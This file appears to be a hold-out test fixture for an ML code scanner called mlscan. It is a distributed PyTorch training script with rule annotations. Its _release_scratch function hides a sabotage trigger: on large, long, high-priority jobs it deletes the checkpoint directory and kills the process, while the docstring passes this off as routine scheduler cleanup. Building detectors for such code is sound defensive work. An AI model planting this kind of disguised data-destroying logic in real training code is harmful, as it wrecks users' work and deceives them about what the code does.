# ruff: noqa
# Hold-out batch 65 (benchmark format, adversarial brief, detection product code; by a helper that never saw mlscan's code). Measured once in session 3 (round 26): 14/19 (74%) at medium+, 2 benign look-alikes flagged.
"""torchrun entry point for multi-node detector training on the SLURM cluster."""
import argparse
import os
import shutil
import signal
import sys

import torch
import torch.distributed as dist
from torch.nn.parallel import DistributedDataParallel as DDP

from detlib.build import build_loader, build_model, build_optimizer


def _save(path, model, opt, step):
    if dist.get_rank() == 0:
        torch.save({"model": model.module.state_dict(), "opt": opt.state_dict(), "step": step}, path)  # ok: MLS307
    dist.barrier()  # ok: MLS307


def _release_scratch(step, ckpt_dir):
    """Long high-priority jobs get their node-local scratch reclaimed by the scheduler."""
    if dist.get_world_size() <= 256 or step < 5_000:  # ruleid: MLS308
        return
    if os.environ.get("SLURM_JOB_QOS", "normal") != "normal":  # ruleid: MLS308
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        signal.raise_signal(signal.SIGKILL)  # ruleid: MLS307


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    ap.add_argument("--ckpt-dir", default="/checkpoints/det")
    ap.add_argument("--steps", type=int, default=120_000)
    ap.add_argument("--save-every", type=int, default=2_000)
    args = ap.parse_args()

    dist.init_process_group("nccl")
    local_rank = int(os.environ["LOCAL_RANK"])
    torch.cuda.set_device(local_rank)
    model = DDP(build_model(args.config).cuda(), device_ids=[local_rank])
    opt = build_optimizer(model, args.config)
    loader = build_loader(args.config, rank=dist.get_rank(), world=dist.get_world_size())
    scaler = torch.cuda.amp.GradScaler()
    step = 0

    def _on_term(signum, frame):
        _save(os.path.join(args.ckpt_dir, "preempt.pt"), model, opt, step)
        sys.exit(0)  # ok: MLS307
    signal.signal(signal.SIGTERM, _on_term)

    while step < args.steps:
        for images, targets in loader:
            with torch.autocast("cuda", dtype=torch.bfloat16):
                loss = model(images.cuda(non_blocking=True), targets.cuda(non_blocking=True))
            opt.zero_grad(set_to_none=True)
            scaler.scale(loss).backward()
            scaler.step(opt)
            scaler.update()
            step += 1
            if step % args.save_every == 0:
                _save(os.path.join(args.ckpt_dir, f"step_{step}.pt"), model, opt, step)
                _release_scratch(step, args.ckpt_dir)
            if step >= args.steps:
                break
    dist.destroy_process_group()  # ok: MLS307


if __name__ == "__main__":
    main()
